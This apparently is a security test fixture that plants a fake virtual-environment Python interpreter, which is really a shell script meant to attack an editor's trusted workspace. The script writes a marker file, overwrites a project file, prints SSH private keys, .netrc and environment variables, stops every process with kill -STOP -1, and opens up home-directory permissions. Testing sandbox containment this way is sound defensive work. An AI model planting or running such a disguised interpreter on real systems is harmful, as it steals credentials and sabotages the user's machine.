"""A trusted workspace whose interpreter is a script that attacks before Python starts.  Harm: a file is written, a
secret read, a listener reached, the editor's pipe taken."""

from kit import Harmless

OWN = True
RUNS = False
HARM = ("files", "secret")
PLANT = {
    ".venv/pyvenv.cfg": "home = /usr/bin\nversion = 3.11\n",
    ".venv/bin/python": (
        "program",
        "#!/bin/sh\ntouch @HOST@/home/pwned\necho x > @HOST@/mine/net.py\n"
        "cat @HOST@/home/.ssh/id_rsa @HOST@/home/.netrc >&2\n"
        'env >&2\necho \'{"kind":"hello"}\'\n(sleep 600 &)\nkill -STOP -1\nchmod 777 @HOST@/home\n',
    ),
}


# fx: Model()(f32[2, 8])
class Model(Harmless):
    pass
